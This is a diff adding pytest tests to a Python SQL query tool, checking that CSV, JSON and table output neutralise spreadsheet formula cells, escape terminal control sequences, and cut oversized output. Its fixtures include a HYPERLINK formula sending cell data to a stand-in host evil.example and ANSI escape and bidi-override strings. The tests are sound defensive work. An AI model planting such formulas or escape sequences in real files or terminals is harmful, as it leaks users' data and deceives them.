@@ -914,3 +914,80 @@ def test_a_query_that_would_spill_fails_at_the_memory_limit_and_writes_nothing(p
     assert err.startswith("ektp: query failed: Out of Memory Error"), err
     assert capsys.readouterr().out == ""                    # no header left behind either
     assert sorted(os.listdir(published.published.parent)) == before
+
+
+HOSTILE_CELLS = ("""select '=HYPERLINK("http://evil.example/?"||A1)' as f, '+1+1' as p, '-2+3' as m, '@SUM(A1)' as a,
+                 chr(9) || '=1' as t, chr(13) || '=1' as r, 'plain' as o, -5 as n, -2.5::double as d,
+                 '-5' as s, chr(27) || '[2J' || chr(7) || chr(8238) || chr(133) as e""")
+
+
+def test_csv_output_neutralises_formula_cells_but_keeps_negative_numbers(published, capsys):
+    import csv
+
+    assert main(["query", "--data-dir", str(published.data_dir), "--format", "csv", HOSTILE_CELLS]) == 0
+    out = capsys.readouterr().out
+    [header, cells] = list(csv.reader(StringIO(out)))
+    got = dict(zip(header, cells))
+    assert got["f"] == """'=HYPERLINK("http://evil.example/?"||A1)""" and got["p"] == "'+1+1" and got["m"] == "'-2+3"
+    assert got["a"] == "'@SUM(A1)" and got["t"] == "'\\x09=1" and got["r"] == "'\\x0d=1" and got["o"] == "plain"
+    assert got["n"] == "-5" and got["d"] == "-2.5"          # numbers stay numbers
+    assert got["s"] == "'-5"                                # a text cell is text, whatever it looks like
+    assert got["e"] == "\\x1b[2J\\x07\\u202e\\x85"
+
+
+@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
+def test_every_output_format_escapes_control_characters(published, capsys, fmt):
+    import unicodedata
+
+    sql = ("select chr(27) || ']8;;http://evil.example' || chr(7) || 'x' || chr(10) || chr(8238) as "
+           "\"h" + chr(27) + "[1m\", chr(13) || chr(0) || chr(133) as v")
+    assert main(["query", "--data-dir", str(published.data_dir), "--format", fmt, sql]) == 0
+    out = capsys.readouterr().out
+    bad = [hex(ord(ch)) for ch in out if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp")]
+    assert bad == [], bad
+    assert "\\x1b]8;;http://evil.example\\x07x\\x0a\\u202e" in out.replace("\\\\", "\\")
+    if fmt == "json":
+        import json
+        assert json.loads(out)[0]["v"] == "\\x0d\\x00\\x85"
+
+
+@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
+def test_a_fifty_megabyte_cell_is_cut_to_the_cell_limit_with_a_note(published, capsys, monkeypatch, fmt):
+    monkeypatch.setenv("EKTP_QUERY_MAX_CELL_BYTES", "1000")
+    assert main(["query", "--data-dir", str(published.data_dir), "--format", fmt,
+                 "select repeat('x', 50000000) as s, 7 as n"]) == 0
+    captured = capsys.readouterr()
+    assert captured.out.count("x") == 1000 and len(captured.out.encode()) < 6000, len(captured.out)   # table: a rule
+    assert captured.err == "ektp: output cut: 1 cell cut to 1,000 bytes (EKTP_QUERY_MAX_CELL_BYTES).\n"
+
+
+def test_the_output_stops_at_the_row_and_byte_limits_with_a_note(published, capsys, monkeypatch):
+    import json
+
+    monkeypatch.setenv("EKTP_QUERY_MAX_ROWS", "5")
+    assert main(["query", "--data-dir", str(published.data_dir), "--format", "csv", "select range from range(1000000)"]) == 0
+    captured = capsys.readouterr()
+    assert captured.out.split() == ["range", "0", "1", "2", "3", "4"]
+    assert captured.err == "ektp: output cut: only the first 5 rows (EKTP_QUERY_MAX_ROWS).\n"
+    monkeypatch.delenv("EKTP_QUERY_MAX_ROWS")
+    monkeypatch.setenv("EKTP_QUERY_MAX_OUTPUT_BYTES", "1000")
+    for fmt in ("csv", "json", "table"):
+        assert main(["query", "--data-dir", str(published.data_dir), "--format", fmt,
+                     "select repeat('y', 90) as y from range(1000000)"]) == 0
+        captured = capsys.readouterr()
+        assert 800 < len(captured.out.encode()) <= 1000, (fmt, len(captured.out))
+        assert captured.err == "ektp: output cut: stopped at 1,000 bytes (EKTP_QUERY_MAX_OUTPUT_BYTES).\n", fmt
+        if fmt == "json":
+            assert len(json.loads(captured.out)) >= 5        # still a whole JSON document
+
+
+def test_the_output_limits_are_settings_read_from_the_environment(monkeypatch, tmp_path):
+    from flows.settings import load_settings
+
+    s = load_settings(tmp_path)
+    assert (s.query_max_rows, s.query_max_cell_bytes, s.query_max_output_bytes) == (1_000_000, 10_000, 100_000_000)
+    monkeypatch.setenv("EKTP_QUERY_MAX_ROWS", "10")
+    monkeypatch.setenv("EKTP_QUERY_MAX_CELL_BYTES", "20")
+    monkeypatch.setenv("EKTP_QUERY_MAX_OUTPUT_BYTES", "30")
+    s = load_settings(tmp_path)
+    assert (s.query_max_rows, s.query_max_cell_bytes, s.query_max_output_bytes) == (10, 20, 30)
